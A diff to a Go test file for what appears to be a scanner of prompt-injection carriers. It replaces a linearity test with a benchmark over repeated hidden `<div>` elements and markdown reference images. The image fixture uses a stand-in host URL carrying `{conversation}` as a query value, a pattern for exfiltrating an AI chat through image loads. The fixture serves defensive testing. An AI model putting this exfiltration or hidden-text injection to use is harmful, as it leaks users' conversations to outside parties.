@@ -1,6 +1,7 @@
 package inject
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 )
@@ -97,12 +98,23 @@ func TestDecoysDoNotHidePhrases(t *testing.T) {
 	}
 }
 
-// Many hidden elements, each open to the end of the text, and many
-// reference images: linear (a quadratic read of 1 MiB would not finish
-// in the test's time).
-func TestHiddenElementsLinear(t *testing.T) {
-	s := strings.Repeat(`<div hidden>`+strings.Repeat("x", 90), 10000)
-	_ = Scan(s)
-	r := strings.Repeat("[r]: https://a.example/p.png?d={conversation}\n", 20000)
-	_ = Scan(r)
+// BenchmarkCarriersMany: many hidden elements, each open to the end of the
+// text, and many reference images with data-carrying URLs, at two sizes:
+// the cost per byte stays the same (each element's text is read once; a
+// quadratic read would make the larger size ten times as costly a byte).
+// Run: go test ./internal/inject -run '^$' -bench CarriersMany
+func BenchmarkCarriersMany(b *testing.B) {
+	for _, n := range []int{1000, 10000} {
+		for name, text := range map[string]string{
+			"hidden": strings.Repeat(`<div hidden>`+strings.Repeat("x", 90), n),
+			"refs":   strings.Repeat("[r]: https://a.example/p.png?d={conversation}\n", 2*n),
+		} {
+			b.Run(fmt.Sprintf("%s/%d", name, n), func(b *testing.B) {
+				b.SetBytes(int64(len(text)))
+				for b.Loop() {
+					_ = Scan(text)
+				}
+			})
+		}
+	}
 }
